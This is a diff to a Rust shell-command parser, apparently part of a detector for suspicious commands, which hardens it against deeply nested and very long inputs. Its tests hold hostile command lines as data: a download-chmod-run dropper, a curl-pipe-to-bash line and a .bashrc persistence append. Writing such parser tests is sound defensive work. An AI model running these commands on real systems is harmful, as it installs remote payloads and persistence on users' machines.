@@ -23,13 +23,19 @@ pub struct ShellCmd {
 impl ShellCmd {
     /// The program's base name (`/usr/bin/curl` -> `curl`), used to look it up.
     pub fn name(&self) -> &str {
-        let p = self.program.rsplit(['/', '\\']).next().unwrap_or(&self.program);
+        let p = self
+            .program
+            .rsplit(['/', '\\'])
+            .next()
+            .unwrap_or(&self.program);
         p.strip_suffix(".exe").unwrap_or(p)
     }
 }
 
 /// Commands that run the rest of their arguments as another command.
-const WRAPPERS: &[&str] = &["nohup", "sudo", "setsid", "exec", "env", "timeout", "nice", "xargs", "command", "doas", "time"];
+const WRAPPERS: &[&str] = &[
+    "nohup", "sudo", "setsid", "exec", "env", "timeout", "nice", "xargs", "command", "doas", "time",
+];
 /// Shells whose `-c` argument is itself a command line.
 const SHELLS: &[&str] = &["sh", "bash", "zsh", "dash", "ksh"];
 /// Nested command lines deeper than this are not followed (`sh -c "sh -c ..."`).
@@ -52,6 +58,7 @@ fn parse_into(line: &str, nesting: usize, out: &mut Vec<ShellCmd>) {
     if nesting > MAX_NESTING {
         return;
     }
+    let first = out.len();
     let mut nested = Vec::new();
     let toks = lex(line, &mut nested);
     for inner in nested {
@@ -64,16 +71,15 @@ fn parse_into(line: &str, nesting: usize, out: &mut Vec<ShellCmd>) {
     let flush = |words: &mut Vec<String>, cur: &mut ShellCmd, out: &mut Vec<ShellCmd>| {
         let mut w = std::mem::take(words);
         // Leading `VAR=value` assignments are not the program.
-        while w.first().is_some_and(|x| is_assignment(x)) {
-            w.remove(0);
-        }
+        let assignments = w.iter().take_while(|x| is_assignment(x)).count();
+        w.drain(..assignments);
         if w.is_empty() {
             *cur = ShellCmd::default();
             return;
         }
         let mut cmd = std::mem::take(cur);
-        cmd.program = w.remove(0);
-        cmd.args = w;
+        cmd.args = w.split_off(1);
+        cmd.program = w.pop().unwrap_or_default();
         expand(cmd, nesting, out);
     };
     for t in toks {
@@ -107,11 +113,15 @@ fn parse_into(line: &str, nesting: usize, out: &mut Vec<ShellCmd>) {
         }
     }
     flush(&mut words, &mut cur, out);
-    // Fill in pipe targets now that every command is known.
-    for i in 0..out.len() {
-        if out[i].pipe_to.as_deref() == Some("") {
-            let next = out[i + 1..].iter().find(|c| !WRAPPERS.contains(&c.name())).map(|c| c.name().to_string());
-            out[i].pipe_to = next;
+    // Fill in pipe targets now that every command is known: the first command after each
+    // that is not a wrapper (one backward pass, so `a|nohup|nohup|...` stays linear).
+    let mut next: Option<String> = None;
+    for c in out[first..].iter_mut().rev() {
+        if c.pipe_to.as_deref() == Some("") {
+            c.pipe_to = next.clone();
+        }
+        if !WRAPPERS.contains(&c.name()) {
+            next = Some(c.name().to_string());
         }
     }
     out.retain(|c| c.redirects.iter().all(|(op, _)| op != "<") || !c.program.is_empty());
@@ -120,7 +130,11 @@ fn parse_into(line: &str, nesting: usize, out: &mut Vec<ShellCmd>) {
 /// Adds `cmd`, then what it wraps: `nohup x &` also yields `x &`, `sh -c 'y'` yields `y`.
 fn expand(cmd: ShellCmd, nesting: usize, out: &mut Vec<ShellCmd>) {
     let name = cmd.name().to_string();
-    let inner_line = if SHELLS.contains(&name.as_str()) || name == "powershell" || name == "pwsh" || name == "cmd" {
+    let inner_line = if SHELLS.contains(&name.as_str())
+        || name == "powershell"
+        || name == "pwsh"
+        || name == "cmd"
+    {
         cmd.args
             .iter()
             .position(|a| matches!(a.as_str(), "-c" | "/c" | "/C" | "-Command" | "-command"))
@@ -129,12 +143,19 @@ fn expand(cmd: ShellCmd, nesting: usize, out: &mut Vec<ShellCmd>) {
         None
     };
     let wrapped = WRAPPERS.contains(&name.as_str()).then(|| {
-        let skip = cmd.args.iter().take_while(|a| a.starts_with('-') || is_assignment(a)).count();
+        let skip = cmd
+            .args
+            .iter()
+            .take_while(|a| a.starts_with('-') || is_assignment(a))
+            .count();
         let skip = if name == "timeout" { skip + 1 } else { skip };
         cmd.args[skip.min(cmd.args.len())..].to_vec()
     });
     let (background, redirects) = (cmd.background, cmd.redirects.clone());
     out.push(cmd);
+    if nesting > MAX_NESTING {
+        return; // `nohup nohup nohup ...` a hundred thousand times deep
+    }
     if let Some(line) = inner_line {
         let before = out.len();
         parse_into(&line, nesting + 1, out);
@@ -144,13 +165,25 @@ fn expand(cmd: ShellCmd, nesting: usize, out: &mut Vec<ShellCmd>) {
     }
     if let Some(mut w) = wrapped.filter(|w| !w.is_empty()) {
         let program = w.remove(0);
-        expand(ShellCmd { program, args: w, background, pipe_to: None, redirects }, nesting + 1, out);
+        expand(
+            ShellCmd {
+                program,
+                args: w,
+                background,
+                pipe_to: None,
+                redirects,
+            },
+            nesting + 1,
+            out,
+        );
     }
 }
 
 fn is_assignment(word: &str) -> bool {
     match word.split_once('=') {
-        Some((name, _)) => !name.is_empty() && name.chars().all(|c| c.is_ascii_alphanumeric() || c == '_'),
+        Some((name, _)) => {
+            !name.is_empty() && name.chars().all(|c| c.is_ascii_alphanumeric() || c == '_')
+        }
         None => false,
     }
 }
@@ -324,24 +357,50 @@ mod tests {
 
     #[test]
     fn dropper_line_with_background_and_redirect() {
-        let cmds = parse("wget -q http://192.0.2.1/x -O ~/.x && chmod +x ~/.x; nohup ~/.x >/dev/null 2>&1 &");
-        assert_eq!(names("wget a && chmod +x b; nohup c &"), ["wget", "chmod", "nohup", "c"]);
+        let cmds = parse(
+            "wget -q http://192.0.2.1/x -O ~/.x && chmod +x ~/.x; nohup ~/.x >/dev/null 2>&1 &",
+        );
+        assert_eq!(
+            names("wget a && chmod +x b; nohup c &"),
+            ["wget", "chmod", "nohup", "c"]
+        );
         let run = cmds.iter().find(|c| c.program == "~/.x").unwrap();
         assert!(run.background);
-        assert_eq!(run.redirects, vec![(">".to_string(), "/dev/null".to_string())]);
+        assert_eq!(
+            run.redirects,
+            vec![(">".to_string(), "/dev/null".to_string())]
+        );
     }
 
     #[test]
     fn nested_shells_and_substitutions() {
-        assert_eq!(names("bash -c 'curl http://x.invalid | bash'"), ["bash", "curl", "bash"]);
+        assert_eq!(
+            names("bash -c 'curl http://x.invalid | bash'"),
+            ["bash", "curl", "bash"]
+        );
         assert!(names("echo $(whoami)").contains(&"whoami".to_string()));
         assert!(names("echo `hostname`").contains(&"hostname".to_string()));
     }
 
     #[test]
+    fn hostile_lines_stay_linear_and_shallow() {
+        let wrappers = "nohup ".repeat(100_000) + "x";
+        assert!(parse(&wrappers).len() <= MAX_NESTING + 2);
+        let pipes = "curl x".to_string() + &"|nohup".repeat(100_000) + "|sh";
+        assert_eq!(parse(&pipes)[0].pipe_to.as_deref(), Some("sh"));
+        let assignments = "A=1 ".repeat(100_000) + "curl x";
+        assert_eq!(names(&assignments), ["curl"]);
+        let substitutions = "$(".repeat(50_000) + "id" + &")".repeat(50_000);
+        assert!(parse(&substitutions).len() < 100);
+    }
+
+    #[test]
     fn append_to_rc_file() {
         let cmds = parse("echo 'python3 ~/.x &' >> ~/.bashrc");
-        assert_eq!(cmds[0].redirects, vec![(">>".to_string(), "~/.bashrc".to_string())]);
+        assert_eq!(
+            cmds[0].redirects,
+            vec![(">>".to_string(), "~/.bashrc".to_string())]
+        );
         assert!(!cmds[0].background);
     }
 }
